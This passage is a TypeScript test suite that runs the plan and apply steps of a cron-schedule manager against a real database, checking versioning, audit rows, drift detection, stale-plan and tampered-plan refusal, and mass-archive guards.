/**
 * plan → apply against a real database (SPEC §5–§6), shared by the PGlite and PostgreSQL files so
 * both engines are held to the same exact results. Manifests live in memory and go through the
 * real pipeline (parse → validate → compile → plan); time is a ManualClock, never the system's.
 */
import { asc, eq, sql } from 'drizzle-orm';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { CompileResult } from '../../src/compile/compile-sources.js';
import { digestOf } from '../../src/compile/digest.js';
import type { Definition } from '../../src/compile/definition.js';
import type { Database } from '../../src/db/client.js';
import { auditLog, scheduleRuns, scheduleVersions, schedules } from '../../src/db/schema.js';
import { listVersions } from '../../src/db/schedule-queries.js';
import type { ChangeAuthor } from '../../src/operations/actor.js';
import { applyPlan, InvalidPlanError, PlanAlreadyAppliedError, StalePlanError } from '../../src/operations/apply.js';
import { planAgainstDatabase } from '../../src/operations/plan.js';
import type { Plan } from '../../src/plan/plan-types.js';
import { parsePlanJson, renderPlanJson } from '../../src/plan/render-json.js';
import { renderPlanText } from '../../src/plan/render-text.js';
import { ManualClock } from '../../src/shared/clock.js';
import type { ManifestSource } from '../../src/manifest/load.js';
import { countRows, dumpDatabase } from './database-dump.js';
import { compileValid, PLAN_NOW_MS, policySource, scheduleSource } from './plan-apply-manifests.js';

export interface FreshDatabase {
  database: Database;
  cleanup(): Promise<void>;
}

export interface PlanApplySuiteOptions {
  /** Sees every plan the suite builds (the PGlite file checks every action and code occurs). */
  onPlan?: (plan: Plan) => void;
}

export const ALICE: ChangeAuthor = { actor: 'alice@example.com', reason: 'first rollout', gitSha: '1f0e2d3c4b5a69788796a5b4c3d2e1f001122334' };
export const BOB: ChangeAuthor = { actor: 'bob@example.com', reason: 'move the nightly job', gitSha: '2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a' };
const CAROL: ChangeAuthor = { actor: 'carol@example.com', reason: null, gitSha: null };

const MINUTE_MS = 60_000;
const iso = (ms: number) => new Date(ms).toISOString();

/** Plans and applies against one database with one clock, like the CLI does. */
export class PlanApplyDriver {
  readonly clock = new ManualClock(PLAN_NOW_MS);

  constructor(
    readonly database: Database,
    private readonly onPlan: (plan: Plan) => void = () => undefined,
  ) {}

  async plan(sources: ManifestSource[] | CompileResult, options: { allowMassArchive?: boolean } = {}): Promise<Plan> {
    const desired = Array.isArray(sources) ? compileValid(sources, this.clock.nowMs()) : sources;
    const plan = await planAgainstDatabase(this.database, desired, { nowMs: this.clock.nowMs(), allowMassArchive: options.allowMassArchive ?? false });
    this.onPlan(plan);
    return plan;
  }

  apply(plan: Plan, author: ChangeAuthor = ALICE) {
    return applyPlan(this.database, plan, { author, clock: this.clock, lockTimeoutMs: 1_000 });
  }

  async planAndApply(sources: ManifestSource[], author: ChangeAuthor = ALICE): Promise<Plan> {
    const plan = await this.plan(sources);
    await this.apply(plan, author);
    return plan;
  }

  async scheduleRows() {
    return this.database.db.select().from(schedules).orderBy(asc(schedules.id));
  }

  async scheduleByName(name: string) {
    const [row] = await this.database.db.select().from(schedules).where(eq(schedules.name, name));
    if (!row) throw new Error(`no schedule ${name}`);
    return row;
  }

  async versionRows() {
    return this.database.db.select().from(scheduleVersions).orderBy(asc(scheduleVersions.id));
  }

  async auditRows() {
    return this.database.db.select().from(auditLog).orderBy(asc(auditLog.id));
  }
}

const summaryOf = (plan: Plan) => plan.changes.map((c) => `${c.action} ${c.name}`);
const codesOf = (plan: Plan) => Object.fromEntries(plan.changes.map((c) => [c.name, c.findings.map((f) => `${f.code} ${f.level}${f.accepted ? ' accepted' : ''}`)]));

/** The schedules of the create scenario: three zones of behaviour, one file each. */
const createSources = (): ManifestSource[] => [
  scheduleSource('daily-report', { spec: { cron: '30 19 * * *', timezone: 'Asia/Seoul' } }),
  scheduleSource('nightly-cleanup'),
  scheduleSource('api-health-check', { spec: { cron: '*/5 * * * *', job: { type: 'http', url: 'https://api.example.com/healthz', method: 'GET' } } }),
];

/**
 * The rich plan of the suite: every action (create, update, archive, restore, rename), drift and
 * an accepted finding in one plan, made after two applies, a pause done outside cronform and
 * three runs of the schedule it archives.
 */
export async function buildRichPlan(driver: PlanApplyDriver): Promise<Plan> {
  const billing = (spec: Record<string, unknown>, metadata: Record<string, unknown> = {}) =>
    scheduleSource('billing-sync', {
      metadata,
      spec: { cron: '0 * * * *', approval: 'required', job: { type: 'command', command: ['node', 'jobs/billing-sync.js'], env: { API_HOST: { fromEnv: 'BILLING_API_HOST' } } }, timeout: '10m', ...spec },
    });
  const weekly = (name: string, metadata: Record<string, unknown> = {}, spec: Record<string, unknown> = {}) =>
    scheduleSource(name, { metadata, spec: { cron: '0 9 * * 1', timezone: 'Europe/Berlin', job: { type: 'command', command: ['node', 'jobs/weekly-report.js'] }, ...spec } });
  const legacy = scheduleSource('legacy-export', { spec: { cron: '15 2 * * *', criticality: 'HIGH' } });
  const cleanup = scheduleSource('cleanup', { spec: { cron: '30 2 * * *', timezone: 'Europe/Berlin' } });
  const health = scheduleSource('health-check', { spec: { cron: '*/10 * * * *' } });

  await driver.planAndApply([billing({}), weekly('old-report'), legacy, cleanup, health]);
  driver.clock.advance(MINUTE_MS);
  await driver.planAndApply([billing({}), weekly('old-report'), legacy, health]);
  driver.clock.advance(MINUTE_MS);
  // `cronform pause` from an incident channel: plan must show it, never undo it.
  await driver.database.db
    .update(schedules)
    .set({ pausedAt: new Date(driver.clock.nowMs()), pausedBy: 'oncall@example.com', pausedReason: 'INC-42 upstream outage' })
    .where(eq(schedules.name, 'health-check'));
  const legacyRow = await driver.scheduleByName('legacy-export');
  const ran = [3, 2, 1].map((daysAgo) => PLAN_NOW_MS - daysAgo * 86_400_000 + 135 * MINUTE_MS);
  await driver.database.db.insert(scheduleRuns).values(
    ran.map((ms) => ({
      scheduleId: legacyRow.id, scheduleVersion: 1, scheduledFor: new Date(ms), triggerType: 'SCHEDULED', idempotencyKey: `legacy-export:${iso(ms)}:SCHEDULED`,
      status: 'SUCCESS', priority: 2, queue: 'default', runAfter: new Date(ms), attempts: 1, maxAttempts: 1, startedAt: new Date(ms), finishedAt: new Date(ms + 5_000),
    })),
  );
  driver.clock.advance(MINUTE_MS);

  return driver.plan([
    billing(
      { cron: '*/30 * * * *', approval: 'none', timeout: '45m', job: { type: 'command', command: ['node', 'jobs/billing-sync-v2.js'], env: { API_HOST: 'billing.internal', BILLING_TOKEN: { fromEnv: 'BILLING_TOKEN' } } } },
      { riskAccepted: [{ code: 'CF503', reason: 'runs are idempotent since v2', until: '2027-01-31' }] },
    ),
    weekly('weekly-report', { previousName: 'old-report' }, { cron: '0 10 * * 1' }),
    cleanup,
    health,
    scheduleSource('invoice-push', { spec: { cron: '0 6 * * *', job: { type: 'http', url: 'https://erp.example.com/invoices', method: 'POST' }, retry: { maxAttempts: 3 } } }),
  ]);
}

/**
 * Three applied schedules, then a plan of one update, one archive and ten creates whose fifth
 * create fails inside apply (a trigger rejects its insert), after the other writes of the transaction.
 */
export async function prepareFailingApply(driver: PlanApplyDriver): Promise<{ plan: Plan; creates: string[]; dropFailure: () => Promise<void> }> {
  await driver.planAndApply([scheduleSource('kept'), scheduleSource('old'), scheduleSource('z-updated')]);
  driver.clock.advance(MINUTE_MS);
  await driver.database.db.execute(sql.raw(`
    create function reject_fifth() returns trigger language plpgsql as $$
    begin
      if new.name = 'fifth' then raise exception 'injected failure for %', new.name; end if;
      return new;
    end $$`));
  await driver.database.db.execute(sql.raw('create trigger reject_fifth before insert on schedules for each row execute function reject_fifth()'));
  const creates = ['a-first', 'b-second', 'c-third', 'd-fourth', 'fifth', 'g-sixth', 'h-seventh', 'i-eighth', 'j-ninth', 'k-tenth'];
  const plan = await driver.plan([
    scheduleSource('kept'),
    scheduleSource('z-updated', { spec: { cron: '0 4 * * *' } }),
    ...creates.map((n, i) => scheduleSource(n, { spec: { cron: `${i} 5 * * *` } })),
  ]);
  expect(summaryOf(plan)).toEqual(['update z-updated', 'archive old', ...creates.map((n) => `create ${n}`)]);
  const dropFailure = async () => {
    await driver.database.db.execute(sql.raw('drop trigger reject_fifth on schedules'));
  };
  return { plan, creates, dropFailure };
}

export function definePlanApplySuite(name: string, openFreshDatabase: () => Promise<FreshDatabase>, options: PlanApplySuiteOptions = {}): void {
  describe(name, () => {
    let fresh: FreshDatabase;
    let driver: PlanApplyDriver;

    beforeEach(async () => {
      fresh = await openFreshDatabase();
      driver = new PlanApplyDriver(fresh.database, options.onPlan);
    });
    afterEach(async () => {
      await fresh.cleanup();
    });

    it('creates every schedule at version 1 with its version row, audit row and first slot after now', async () => {
      const plan = await driver.plan(createSources());
      expect(summaryOf(plan)).toEqual(['create api-health-check', 'create daily-report', 'create nightly-cleanup']);
      expect(renderPlanText(plan, { color: false }).split('\n').filter((line) => /^\S/.test(line))).toEqual([
        '+ api-health-check [LOW] new: 288 runs/day (peak 288), next 2026-11-29 12:05 UTC',
        '+ daily-report [LOW] new: 1 run/day (peak 1), next 2026-11-30 19:30 Asia/Seoul',
        '+ nightly-cleanup [LOW] new: 1 run/day (peak 1), next 2026-11-30 03:00 UTC',
        '~ policy (first apply stores it)',
        'Plan: 3 to create, 0 to update, 0 to archive, 0 to restore, 0 to rename, 0 unchanged, 0 drift · runs/day 0 → 290 · peak runs/min 0 → 2 · highest risk LOW · risk judged by the default Policy (none stored in the database yet)',
      ]);
      expect(plan.changes.map((c) => [c.scheduleId, c.beforeVersion, c.beforeDigest, c.afterDigest === digestOf(c.after)])).toEqual([
        [null, null, null, true],
        [null, null, null, true],
        [null, null, null, true],
      ]);

      const result = await driver.apply(plan);
      expect(result).toEqual({
        planId: plan.planId,
        applied: [
          { name: 'api-health-check', action: 'create', version: 1 },
          { name: 'daily-report', action: 'create', version: 1 },
          { name: 'nightly-cleanup', action: 'create', version: 1 },
        ],
      });

      const now = new Date(PLAN_NOW_MS);
      const rows = await driver.scheduleRows();
      expect(rows.map((r) => ({ name: r.name, version: r.version, status: r.status, managed: r.managed, nextRunAt: r.nextRunAt?.toISOString(), createdAt: r.createdAt, updatedAt: r.updatedAt, pausedAt: r.pausedAt }))).toEqual([
        { name: 'api-health-check', version: 1, status: 'ACTIVE', managed: true, nextRunAt: '2026-11-29T12:05:00.000Z', createdAt: now, updatedAt: now, pausedAt: null },
        { name: 'daily-report', version: 1, status: 'ACTIVE', managed: true, nextRunAt: '2026-11-30T10:30:00.000Z', createdAt: now, updatedAt: now, pausedAt: null },
        { name: 'nightly-cleanup', version: 1, status: 'ACTIVE', managed: true, nextRunAt: '2026-11-30T03:00:00.000Z', createdAt: now, updatedAt: now, pausedAt: null },
      ]);
      for (const [index, row] of rows.entries()) {
        expect(row.definition).toEqual(plan.changes[index]!.after);
        expect(row.digest).toBe(plan.changes[index]!.afterDigest);
      }

      const versions = await driver.versionRows();
      expect(versions.map((v) => ({ scheduleId: v.scheduleId, version: v.version, name: v.name, status: v.status, actor: v.actor, reason: v.reason, gitSha: v.gitSha, planId: v.planId, createdAt: v.createdAt }))).toEqual(
        rows.map((r) => ({ scheduleId: r.id, version: 1, name: r.name, status: 'ACTIVE', actor: ALICE.actor, reason: ALICE.reason, gitSha: ALICE.gitSha, planId: plan.planId, createdAt: now })),
      );
      expect(versions.map((v) => [v.definition, v.digest])).toEqual(rows.map((r) => [r.definition, r.digest]));

      const audit = await driver.auditRows();
      expect(audit.map((a) => ({ at: a.at, actor: a.actor, action: a.action, scheduleId: a.scheduleId, scheduleName: a.scheduleName, version: a.version, runId: a.runId, before: a.before, after: a.after, reason: a.reason, gitSha: a.gitSha, planId: a.planId }))).toEqual([
        ...rows.map((r) => ({ at: now, actor: ALICE.actor, action: 'SCHEDULE_CREATED', scheduleId: r.id, scheduleName: r.name, version: 1, runId: null, before: null, after: r.definition, reason: ALICE.reason, gitSha: ALICE.gitSha, planId: plan.planId })),
        // The first apply also stores the repository Policy (the defaults here).
        { at: now, actor: ALICE.actor, action: 'POLICY_UPDATED', scheduleId: null, scheduleName: null, version: null, runId: null, before: null, after: plan.policyChange!.after, reason: ALICE.reason, gitSha: ALICE.gitSha, planId: plan.planId },
      ]);
    });

    it('re-planning unchanged manifests shows no changes, and applying that plan writes nothing', async () => {
      await driver.planAndApply(createSources());
      driver.clock.advance(10 * MINUTE_MS);
      const before = await dumpDatabase(driver.database);

      const plan = await driver.plan(createSources());
      expect(plan.changes).toEqual([]);
      expect(plan.drift).toEqual([]);
      expect(plan.errors).toEqual([]);
      expect(plan.summary).toMatchObject({ create: 0, update: 0, archive: 0, restore: 0, rename: 0, unchanged: 3, drift: 0, errors: 0 });
      expect(renderPlanText(plan, { color: false })).toBe('No changes. 3 schedules unchanged.\n');

      expect(await driver.apply(plan)).toEqual({ planId: plan.planId, applied: [] });
      expect(await dumpDatabase(driver.database)).toEqual(before);
      expect(countRows(before)).toMatchObject({ 'public.schedules': 3, 'public.schedule_versions': 3, 'public.audit_log': 4 });
    });

    it('updates with an exact field-level diff, version 2, a new version row and audit before/after', async () => {
      await driver.planAndApply(createSources());
      const v1 = await driver.scheduleByName('nightly-cleanup');
      driver.clock.advance(30 * MINUTE_MS);

      const sources = createSources();
      sources[1] = scheduleSource('nightly-cleanup', { metadata: { labels: { team: 'data' } }, spec: { cron: '0 4 * * *', retry: { maxAttempts: 3 } } });
      const plan = await driver.plan(sources);
      expect(summaryOf(plan)).toEqual(['update nightly-cleanup']);
      const [change] = plan.changes;
      expect(change).toMatchObject({ scheduleId: v1.id, beforeVersion: 1, beforeDigest: v1.digest, afterDigest: digestOf(change!.after) });
      expect(change!.changedPaths).toEqual(['cron', 'labels.team', 'retry.maxAttempts']);
      expect(change!.fieldChanges).toEqual([
        { path: 'cron', before: '0 3 * * *', after: '0 4 * * *' },
        { path: 'labels.team', before: null, after: 'data' },
        { path: 'retry.maxAttempts', before: 1, after: 3 },
      ]);
      expect(change!.headline).toBe('next slot 03:00Z → 04:00Z; changed cron, retry, labels');
      // A cron change re-assesses the catch-up radius too.
      expect(change!.findings.map((f) => f.code)).toEqual(['CF303', 'CF502', 'CF519']);

      await driver.apply(plan, BOB);
      const v2 = await driver.scheduleByName('nightly-cleanup');
      const at = new Date(PLAN_NOW_MS + 30 * MINUTE_MS);
      expect({ id: v2.id, version: v2.version, digest: v2.digest, nextRunAt: v2.nextRunAt, createdAt: v2.createdAt, updatedAt: v2.updatedAt }).toEqual({
        id: v1.id, version: 2, digest: change!.afterDigest, nextRunAt: new Date('2026-11-30T04:00:00Z'), createdAt: new Date(PLAN_NOW_MS), updatedAt: at,
      });
      expect(v2.definition).toEqual(change!.after);

      const versions = await listVersions(driver.database.db, 'nightly-cleanup');
      expect(versions.map((v) => [v.version, v.digest, v.actor, v.planId])).toEqual([
        [1, v1.digest, ALICE.actor, expect.any(String)],
        [2, change!.afterDigest, BOB.actor, plan.planId],
      ]);
      expect(versions[0]!.definition).toEqual(v1.definition);

      const audit = (await driver.auditRows()).filter((a) => a.scheduleId === v1.id);
      expect(audit.map((a) => ({ action: a.action, version: a.version, actor: a.actor, reason: a.reason, at: a.at }))).toEqual([
        { action: 'SCHEDULE_CREATED', version: 1, actor: ALICE.actor, reason: ALICE.reason, at: new Date(PLAN_NOW_MS) },
        { action: 'SCHEDULE_UPDATED', version: 2, actor: BOB.actor, reason: BOB.reason, at },
      ]);
      expect(audit[1]!.before).toEqual(v1.definition);
      expect(audit[1]!.after).toEqual(change!.after);
      // The other schedules were not touched.
      expect((await driver.scheduleRows()).map((r) => [r.name, r.version])).toEqual([['api-health-check', 1], ['daily-report', 1], ['nightly-cleanup', 2]]);
    });

    it('archives a removed manifest (disabled, history kept) and restores it when the manifest returns', async () => {
      await driver.planAndApply(createSources());
      const created = await driver.scheduleByName('daily-report');
      driver.clock.advance(MINUTE_MS);

      const withoutReport = createSources().filter((s) => !s.file.includes('daily-report'));
      const archive = await driver.plan(withoutReport);
      expect(summaryOf(archive)).toEqual(['archive daily-report']);
      expect(archive.changes[0]).toMatchObject({ scheduleId: created.id, beforeVersion: 1, beforeDigest: created.digest, afterDigest: null, after: null, headline: 'archive: never ran', history: { lastRunAt: null, runsLast30Days: 0 } });
      expect(codesOf(archive)).toEqual({ 'daily-report': ['CF201 LOW'] });
      await driver.apply(archive);

      const archived = await driver.scheduleByName('daily-report');
      expect({ id: archived.id, status: archived.status, version: archived.version, nextRunAt: archived.nextRunAt, digest: archived.digest }).toEqual({ id: created.id, status: 'ARCHIVED', version: 2, nextRunAt: null, digest: created.digest });
      expect(archived.definition).toEqual(created.definition);

      // Archived stays archived: planning the same manifests again changes nothing.
      driver.clock.advance(MINUTE_MS);
      const again = await driver.plan(withoutReport);
      expect(again.changes).toEqual([]);
      expect(again.summary.unchanged).toBe(2);

      driver.clock.advance(MINUTE_MS);
      const restore = await driver.plan(createSources());
      expect(summaryOf(restore)).toEqual(['restore daily-report']);
      expect(restore.changes[0]).toMatchObject({ scheduleId: created.id, beforeVersion: 2, changedPaths: [], headline: 'restore: 1 run/day (peak 1), next 2026-11-30 19:30 Asia/Seoul' });
      await driver.apply(restore);

      const restored = await driver.scheduleByName('daily-report');
      expect({ id: restored.id, status: restored.status, version: restored.version, nextRunAt: restored.nextRunAt }).toEqual({ id: created.id, status: 'ACTIVE', version: 3, nextRunAt: new Date('2026-11-30T10:30:00Z') });
      const versions = await listVersions(driver.database.db, 'daily-report');
      expect(versions.map((v) => [v.version, v.status, v.digest])).toEqual([
        [1, 'ACTIVE', created.digest],
        [2, 'ARCHIVED', created.digest],
        [3, 'ACTIVE', created.digest],
      ]);
      const audit = (await driver.auditRows()).filter((a) => a.scheduleId === created.id);
      expect(audit.map((a) => [a.action, a.version, a.before === null, a.after === null])).toEqual([
        ['SCHEDULE_CREATED', 1, true, false],
        ['SCHEDULE_ARCHIVED', 2, false, true],
        ['SCHEDULE_RESTORED', 3, false, false],
      ]);
    });

    it('renames via metadata.previousName: same schedule id, new name, versions of the old name kept', async () => {
      const job = { type: 'command', command: ['node', 'jobs/report.js'] };
      await driver.planAndApply([scheduleSource('daily-summary', { spec: { job } })]);
      const original = await driver.scheduleByName('daily-summary');
      driver.clock.advance(MINUTE_MS);

      const plan = await driver.plan([scheduleSource('daily-report', { metadata: { previousName: 'daily-summary' }, spec: { job } })]);
      expect(summaryOf(plan)).toEqual(['rename daily-report']);
      expect(plan.changes[0]).toMatchObject({ previousName: 'daily-summary', scheduleId: original.id, beforeVersion: 1, changedPaths: ['name'], findings: [] });
      expect(plan.changes[0]!.headline).toMatch(/^renamed from daily-summary \(history kept\)/);
      await driver.apply(plan);

      const renamed = await driver.scheduleByName('daily-report');
      expect({ id: renamed.id, version: renamed.version, status: renamed.status, nextRunAt: renamed.nextRunAt }).toEqual({ id: original.id, version: 2, status: 'ACTIVE', nextRunAt: original.nextRunAt });
      expect((await listVersions(driver.database.db, 'daily-report')).map((v) => [v.scheduleId, v.version, v.name])).toEqual([
        [original.id, 1, 'daily-summary'],
        [original.id, 2, 'daily-report'],
      ]);
      const audit = await driver.auditRows();
      expect(audit.map((a) => [a.scheduleId, a.action, a.scheduleName, a.version])).toEqual([
        [original.id, 'SCHEDULE_CREATED', 'daily-summary', 1],
        [null, 'POLICY_UPDATED', null, null],
        [original.id, 'SCHEDULE_RENAMED', 'daily-report', 2],
      ]);
      expect((audit[2]!.before as Definition).name).toBe('daily-summary');
      expect((audit[2]!.after as Definition).name).toBe('daily-report');

      // The rename is settled: the old name is free and nothing is archived.
      driver.clock.advance(MINUTE_MS);
      const settled = await driver.plan([scheduleSource('daily-report', { metadata: { previousName: 'daily-summary' }, spec: { job } })]);
      expect(settled.changes).toEqual([]);
    });

    it('an update of a field that moves no slot says which field changed and re-raises no finding', async () => {
      const push = (description: string) =>
        scheduleSource('invoice-push', { metadata: { description }, spec: { cron: '0 6 * * *', dst: { gap: 'skip', fold: 'first' }, job: { type: 'http', url: 'https://erp.example.com/invoices', method: 'POST', headers: { Accept: 'application/json' } }, retry: { maxAttempts: 3, initialDelay: '1m' } } });
      await driver.planAndApply([push('Pushes invoices')]);
      driver.clock.advance(MINUTE_MS);
      const plan = await driver.plan([push('Pushes invoices to the ERP')]);
      expect(plan.changes.map((c) => ({ name: c.name, changedPaths: c.changedPaths, headline: c.headline, findings: c.findings.map((f) => f.code) }))).toEqual([
        // Definitions read back from jsonb have another key order than compiled ones: that is not a change.
        { name: 'invoice-push', changedPaths: ['description'], headline: 'changed description; timing unchanged', findings: [] },
      ]);
    });

    it('a previousName whose schedule still has its own manifest creates a new schedule, whatever the file order', async () => {
      await driver.planAndApply([scheduleSource('daily-summary')]);
      const kept = await driver.scheduleByName('daily-summary');
      driver.clock.advance(MINUTE_MS);
      // The renamed-to file sorts first: it must not claim daily-summary, which its own manifest keeps.
      const plan = await driver.plan([scheduleSource('a-daily-report', { metadata: { previousName: 'daily-summary' } }), scheduleSource('daily-summary')]);
      expect(summaryOf(plan)).toEqual(['create a-daily-report']);
      expect(plan.summary.unchanged).toBe(1);
      await driver.apply(plan);
      expect((await driver.scheduleRows()).map((r) => [r.id, r.name, r.version])).toEqual([
        [kept.id, 'daily-summary', 1],
        [expect.any(Number), 'a-daily-report', 1],
      ]);
    });

    it('reports a pause made outside cronform as drift CF601 and a definition edited in the database as CF602 with an update', async () => {
      await driver.planAndApply(createSources());
      const health = await driver.scheduleByName('api-health-check');
      const nightly = await driver.scheduleByName('nightly-cleanup');
      const pausedAt = PLAN_NOW_MS + 5 * MINUTE_MS;
      await driver.database.db
        .update(schedules)
        .set({ pausedAt: new Date(pausedAt), pausedBy: 'oncall@example.com', pausedReason: 'INC-42 upstream outage' })
        .where(eq(schedules.id, health.id));
      driver.clock.advance(10 * MINUTE_MS);

      const paused = await driver.plan(createSources());
      expect(paused.changes).toEqual([]);
      expect(paused.summary).toMatchObject({ unchanged: 3, drift: 1 });
      expect(paused.drift).toEqual([
        {
          name: 'api-health-check',
          scheduleId: health.id,
          kind: 'paused',
          message: 'paused by oncall@example.com at 2026-11-29T12:05:00.000Z: INC-42 upstream outage',
          finding: {
            code: 'CF601',
            level: 'MEDIUM',
            message: 'api-health-check is paused by oncall@example.com at 2026-11-29T12:05:00.000Z: INC-42 upstream outage; apply keeps it paused',
            hint: 'cronform resume api-health-check when the incident is over',
          },
        },
      ]);

      const edited: Definition = { ...nightly.definition, cron: '0 5 * * *' };
      await driver.database.db.update(schedules).set({ definition: edited, digest: digestOf(edited) }).where(eq(schedules.id, nightly.id));
      const modified = await driver.plan(createSources());
      expect(modified.drift.map((d) => [d.name, d.kind, d.finding.code, d.finding.level, d.message])).toEqual([
        ['api-health-check', 'paused', 'CF601', 'MEDIUM', 'paused by oncall@example.com at 2026-11-29T12:05:00.000Z: INC-42 upstream outage'],
        ['nightly-cleanup', 'modified', 'CF602', 'HIGH', 'definition differs from version 1 recorded by apply'],
      ]);
      expect(summaryOf(modified)).toEqual(['update nightly-cleanup']);
      expect(modified.changes[0]).toMatchObject({ scheduleId: nightly.id, beforeVersion: 1, beforeDigest: digestOf(edited), afterDigest: nightly.digest });
      expect(modified.changes[0]!.fieldChanges).toEqual([{ path: 'cron', before: '0 5 * * *', after: '0 3 * * *' }]);
      expect(renderPlanText(modified, { color: false })).toContain(
        'Drift\n! api-health-check  paused by oncall@example.com at 2026-11-29T12:05:00.000Z: INC-42 upstream outage  (CF601 MEDIUM)\n    fix: cronform resume api-health-check when the incident is over\n! nightly-cleanup  definition differs from version 1 recorded by apply  (CF602 HIGH)\n',
      );

      await driver.apply(modified);
      const restored = await driver.scheduleByName('nightly-cleanup');
      expect({ version: restored.version, digest: restored.digest }).toEqual({ version: 2, digest: nightly.digest });
      const settled = await driver.plan(createSources());
      expect(settled.changes).toEqual([]);
      expect(settled.drift.map((d) => d.finding.code)).toEqual(['CF601']);

      // An update of a paused schedule keeps it paused.
      const sources = createSources();
      sources[2] = scheduleSource('api-health-check', { spec: { cron: '*/10 * * * *', job: { type: 'http', url: 'https://api.example.com/healthz', method: 'GET' } } });
      await driver.planAndApply(sources);
      const stillPaused = await driver.scheduleByName('api-health-check');
      expect({ version: stillPaused.version, pausedAt: stillPaused.pausedAt, pausedBy: stillPaused.pausedBy, pausedReason: stillPaused.pausedReason }).toEqual({
        version: 2, pausedAt: new Date(pausedAt), pausedBy: 'oncall@example.com', pausedReason: 'INC-42 upstream outage',
      });
    });

    it('refuses a mass archive (CF205) and an empty manifest set (CF204) unless allowed', async () => {
      const names = Array.from({ length: 12 }, (_, i) => `job-${String(i + 1).padStart(2, '0')}`);
      await driver.planAndApply(names.map((n, i) => scheduleSource(n, { spec: { cron: `${i} 3 * * *` } })));
      driver.clock.advance(MINUTE_MS);
      const applied = await dumpDatabase(driver.database);
      const keepOne = [scheduleSource('job-01', { spec: { cron: '0 3 * * *' } })];

      const guarded = await driver.plan(keepOne);
      expect(guarded.errors).toEqual([
        { severity: 'error', code: 'CF205', message: 'refusing to archive 11 of 12 schedules at once (more than 10 or 20%)', hint: 'check --dir and the checkout; pass --allow-mass-archive if this is really intended' },
      ]);
      expect(guarded.summary).toMatchObject({ archive: 11, errors: 1 });
      await expect(driver.apply(guarded)).rejects.toThrow(new InvalidPlanError('the plan has 1 error(s); fix them and plan again'));

      const empty = await driver.plan([]);
      expect(empty.errors).toEqual([
        { severity: 'error', code: 'CF204', message: 'no schedule manifests found: applying this would archive all 12 schedules', hint: 'check --dir and the checkout; pass --allow-mass-archive if this is really intended' },
      ]);
      await expect(driver.apply(empty)).rejects.toBeInstanceOf(InvalidPlanError);
      expect(await dumpDatabase(driver.database)).toEqual(applied);

      // 2 of 12 is under both limits; 3 of 12 is over 20%.
      expect((await driver.plan(names.slice(0, 10).map((n, i) => scheduleSource(n, { spec: { cron: `${i} 3 * * *` } })))).errors).toEqual([]);
      expect((await driver.plan(names.slice(0, 9).map((n, i) => scheduleSource(n, { spec: { cron: `${i} 3 * * *` } })))).errors.map((e) => e.message)).toEqual([
        'refusing to archive 3 of 12 schedules at once (more than 10 or 20%)',
      ]);

      const allowed = await driver.plan(keepOne, { allowMassArchive: true });
      expect(allowed.errors).toEqual([]);
      expect(summaryOf(allowed)).toEqual(names.slice(1).map((n) => `archive ${n}`));
      await driver.apply(allowed);
      expect((await driver.scheduleRows()).map((r) => [r.name, r.status, r.version])).toEqual(names.map((n) => [n, n === 'job-01' ? 'ACTIVE' : 'ARCHIVED', n === 'job-01' ? 1 : 2]));
    });

    it('refuses a stale plan naming the schedule and who moved it; unrelated writes do not stale a plan', async () => {
      const sources = (x: Record<string, unknown> = {}, y: Record<string, unknown> = {}) => [scheduleSource('x', { spec: { cron: '0 3 * * *', ...x } }), scheduleSource('y', { spec: { cron: '0 4 * * *', ...y } })];
      await driver.planAndApply(sources());
      driver.clock.advance(MINUTE_MS);

      const planA = await driver.plan(sources({ cron: '0 5 * * *' }));
      const planC = await driver.plan(sources({}, { cron: '0 6 * * *' }));
      const planD = await driver.plan([...sources(), scheduleSource('z')]);
      driver.clock.advance(4 * MINUTE_MS);
      const bobAt = driver.clock.nowMs();
      await driver.apply(await driver.plan(sources({ cron: '0 7 * * *' })), BOB);
      await driver.apply(await driver.plan([...sources({ cron: '0 7 * * *' }), scheduleSource('z', { spec: { cron: '0 8 * * *' } })]), CAROL);
      driver.clock.advance(MINUTE_MS);
      const beforeStale = await dumpDatabase(driver.database);

      const stale = await driver.apply(planA).catch((error: unknown) => error);
      expect(stale).toBeInstanceOf(StalePlanError);
      expect((stale as StalePlanError).moved).toEqual([{ name: 'x', detail: `moved from version 1 to 2 (SCHEDULE_UPDATED by bob@example.com at ${iso(bobAt)})` }]);
      expect((stale as StalePlanError).message).toBe(`the plan is stale: x moved from version 1 to 2 (SCHEDULE_UPDATED by bob@example.com at ${iso(bobAt)}). Run plan again.`);

      const created = await driver.apply(planD).catch((error: unknown) => error);
      expect(created).toBeInstanceOf(StalePlanError);
      expect((created as StalePlanError).moved).toEqual([{ name: 'z', detail: `was created since the plan (SCHEDULE_CREATED by carol@example.com at ${iso(bobAt)})` }]);
      expect(await dumpDatabase(driver.database)).toEqual(beforeStale);

      // Plan C touches only y: x moving underneath it is an unrelated write.
      expect(await driver.apply(planC)).toEqual({ planId: planC.planId, applied: [{ name: 'y', action: 'update', version: 2 }] });
      expect((await driver.scheduleRows()).map((r) => [r.name, r.version, r.definition.cron])).toEqual([
        ['x', 2, '0 7 * * *'],
        ['y', 2, '0 6 * * *'],
        ['z', 1, '0 8 * * *'],
      ]);
    });

    it('refuses to apply the same plan twice, also from its JSON file', async () => {
      const plan = await driver.plan(createSources());
      await driver.apply(plan);
      const applied = await dumpDatabase(driver.database);
      await expect(driver.apply(plan)).rejects.toThrow(new PlanAlreadyAppliedError(plan.planId));
      await expect(driver.apply(parsePlanJson(renderPlanJson(plan)))).rejects.toBeInstanceOf(PlanAlreadyAppliedError);
      expect(await dumpDatabase(driver.database)).toEqual(applied);
    });

    it('refuses a tampered plan: a definition that no longer matches its digest, or any other edited field', async () => {
      await driver.planAndApply(createSources());
      driver.clock.advance(MINUTE_MS);
      const sources = createSources();
      sources[1] = scheduleSource('nightly-cleanup', { spec: { cron: '0 4 * * *' } });
      const plan = await driver.plan(sources);
      const before = await dumpDatabase(driver.database);

      const editedDefinition = parsePlanJson(renderPlanJson(plan));
      editedDefinition.changes[0]!.after!.cron = '* * * * *';
      await expect(driver.apply(editedDefinition)).rejects.toThrow(new InvalidPlanError("the plan's definition of nightly-cleanup does not match its digest (edited plan file?)"));

      // Consistently edited definition and digest, or a planned-against version moved forward: the plan id no longer matches.
      const editedBoth = parsePlanJson(renderPlanJson(plan));
      editedBoth.changes[0]!.after!.cron = '* * * * *';
      editedBoth.changes[0]!.afterDigest = digestOf(editedBoth.changes[0]!.after);
